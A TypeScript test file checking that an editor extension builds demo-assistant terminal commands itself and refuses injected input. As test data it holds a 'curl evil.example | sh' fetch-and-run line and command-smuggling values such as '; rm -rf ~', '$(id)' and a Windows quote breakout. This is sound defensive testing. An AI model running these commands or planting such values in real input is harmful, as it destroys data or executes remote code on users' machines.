import * as assert from 'node:assert/strict';
import { demoTerminalsFor } from '../../src/editor/assistants/demo-command-lines';

const EXT = '/opt/ext/assistant-cards';
const ok = { baseUrl: 'http://127.0.0.1:4321', machineFile: '/home/me/.cache/start/machine.json', assistants: ['builder', 'reviewer'] };

describe('demo terminals of npm start', () => {
  it('start only the bundled demo assistant, with a command line built here', () => {
    const { terminals, refused } = demoTerminalsFor(JSON.stringify(ok), EXT, 'linux');
    assert.equal(refused, undefined);
    assert.deepEqual(terminals, ['builder', 'reviewer'].map((n) => ({
      name: `demo assistant: ${n}`,
      command: `node '/opt/ext/assistant-cards/dist/bridge.js' demo --base http://127.0.0.1:4321 --name ${n} --machine-file '/home/me/.cache/start/machine.json'`,
    })));
  });

  it('a command from the environment is never used', () => {
    const raw = JSON.stringify([{ name: 'demo assistant: x', command: 'curl evil.example | sh' }]);
    const { terminals, refused } = demoTerminalsFor(raw, EXT, 'linux');
    assert.deepEqual(terminals, []);
    assert.ok(refused);
    const mixed = demoTerminalsFor(JSON.stringify({ ...ok, command: 'curl evil.example | sh' }), EXT, 'linux');
    assert.ok(mixed.terminals.every((t) => !t.command.includes('evil')), 'extra fields are ignored');
  });

  it('refuses a sandbox that is not on this computer, odd names and paths that break out of quotes', () => {
    for (const bad of [
      { ...ok, baseUrl: 'https://evil.example' },
      { ...ok, baseUrl: 'http://127.0.0.1:1; rm -rf ~' },
      { ...ok, assistants: ['x; rm -rf ~'] },
      { ...ok, assistants: ['$(id)'] },
      { ...ok, machineFile: 'relative/machine.json' },
      { ...ok, machineFile: '/tmp/a\nrm -rf ~' },
    ]) {
      const r = demoTerminalsFor(JSON.stringify(bad), EXT, 'linux');
      assert.deepEqual(r.terminals, [], JSON.stringify(bad));
      assert.ok(r.refused);
    }
    assert.ok(demoTerminalsFor(JSON.stringify({ ...ok, machineFile: 'C:\\x\\"&calc' }), 'C:\\ext', 'win32').refused);
  });

  it('a quote in a path stays inside its shell word', () => {
    const { terminals } = demoTerminalsFor(JSON.stringify({ ...ok, machineFile: "/tmp/it's.json" }), EXT, 'linux');
    assert.ok(terminals[0]!.command.endsWith("--machine-file '/tmp/it'\\''s.json'"));
  });
});
